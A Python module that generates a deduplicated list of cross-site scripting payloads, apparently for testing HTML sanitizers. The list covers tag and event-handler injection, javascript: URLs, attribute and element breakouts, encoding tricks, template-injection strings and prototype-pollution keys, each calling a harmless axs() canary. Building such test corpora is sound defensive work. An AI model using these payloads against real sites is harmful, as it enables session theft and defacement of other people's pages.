"""Scripts that a hostile person writes where text is asked for; each calls axs() or leaves an element with data-axs."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_TAGS = (
    "<script>axs()</script>",
    "<script src=data:,axs()></script>",
    "<script/x>axs()</script >",
    "<ScRiPt>axs()</sCrIpT>",
    "<img data-axs src=x onerror=axs()>",
    "<img data-axs src=x:x onerror='axs()'//",
    "<svg data-axs onload=axs()>",
    "<svg data-axs/onload=axs()//",
    "<svg><script>axs()</script></svg>",
    "<svg><a xlink:href=javascript:axs() data-axs>",
    "<svg><animate data-axs onbegin=axs() attributeName=x>",
    "<math><mi data-axs xlink:href=javascript:axs()>",
    "<body data-axs onload=axs()>",
    "<iframe data-axs srcdoc='<script>parent.axs()</script>'>",
    "<iframe data-axs src=javascript:parent.axs()>",
    "<object data-axs data=javascript:axs()>",
    "<embed data-axs src=javascript:axs()>",
    "<details data-axs open ontoggle=axs()>",
    "<input data-axs autofocus onfocus=axs()>",
    "<select data-axs autofocus onfocus=axs()>",
    "<textarea data-axs autofocus onfocus=axs()>",
    "<video data-axs><source onerror=axs()>",
    "<audio data-axs src onerror=axs()>",
    "<marquee data-axs onstart=axs()>",
    "<a data-axs href=javascript:axs()>x</a>",
    "<a data-axs href='java\tscript:axs()'>x</a>",
    "<form data-axs action=javascript:axs()><button>",
    "<button data-axs formaction=javascript:axs()>",
    "<meta data-axs http-equiv=refresh content=0;url=/x>",
    "<base data-axs href=//127.0.0.1:9/>",
    "<link data-axs rel=stylesheet href=//127.0.0.1:9/>",
    "<style data-axs>*{display:none}</style>",
    "<div data-axs style=position:fixed;inset:0>",
    "<x data-axs hx-on:click=axs()>",
    "<x data-axs hx-get=/ hx-trigger=load>",
    "<ax-player data-axs src=javascript:axs()>",
    "<template data-axs shadowrootmode=open><script>axs()</script>",
    "<slot data-axs onslotchange=axs()>",
    "<noscript><p title='</noscript><img data-axs src=x onerror=axs()>'>",
    "<xmp><p title='</xmp><img data-axs src=x onerror=axs()>'>",
)
# out of an attribute, a tag's text, a comment, a script's string, a style, JSON
_BREAKS = ("", '"', "'", '">', "'>", "`>", "-->", "]]>")
_CLOSERS = ("</title>", "</textarea>", "</style>", "</script>", "</option></select>", "</button>")
_BARE = (
    '" onmouseover=axs() data-axs="',
    "' onmouseover=axs() data-axs='",
    '" autofocus onfocus=axs() data-axs x="',
    '"style="position:fixed;inset:0"data-axs="',
    "javascript:axs()",
    "JaVaScRiPt:axs()",
    "java\tscript:axs()",
    " javascript:axs()",
    "data:text/html,<script>axs()</script>",
    "vbscript:axs()",
    "https://x.example/?q=<script>axs()</script>",
    'https://x.example/" onclick="axs()" data-axs="',
    "https://x.example/'onclick='axs()'data-axs='",
    "[x](javascript:axs())",
    "{{ axs() }}",
    "{{ 7*7 }}{% for x in y %}",
    "${axs()}",
    "#{axs()}",
    "<%= axs() %>",
    "&lt;script&gt;axs()&lt;/script&gt;",
    "&#60;script&#62;axs()&#60;/script&#62;",
    "\\u003cscript\\u003eaxs()\\u003c/script\\u003e",
    "\\x3cscript\\x3eaxs()\\x3c/script\\x3e",
    "%3Cscript%3Eaxs()%3C/script%3E",
    "\uff1cscript\uff1eaxs()\uff1c/script\uff1e",
    "';axs();'",
    '";axs();"',
    "\\';axs();//",
    "`;axs();`",
    '"}}</script><script>axs()</script>',
    '"],"x":["</script><img data-axs src=x onerror=axs()>',
    "\u2028axs()\u2028",
    "<!--<script>axs()</script>-->",
    "<![CDATA[<script>axs()</script>]]>",
    "<?xml version='1.0'?><script>axs()</script>",
    "<<script>axs()//<</script>",
    "<scr<script>ipt>axs()</scr</script>ipt>",
    "<a/href=javascript:axs() data-axs>",
    "expression(axs())",
    "url(javascript:axs())",
    "@import '//127.0.0.1:9/x.css';",
    "__proto__",
    "constructor.prototype",
)


def payloads() -> Iterator[str]:
    """All of them, each once."""
    seen = set()
    broken = (f"{before}{tag}" for tag, before in product(_TAGS, _BREAKS[:4]))
    more = (f"{before}{tag}" for tag, before in product(_TAGS[4:8], _BREAKS[4:] + _CLOSERS))
    for text in (*broken, *more, *_BARE):
        if text not in seen:
            seen.add(text)
            yield text
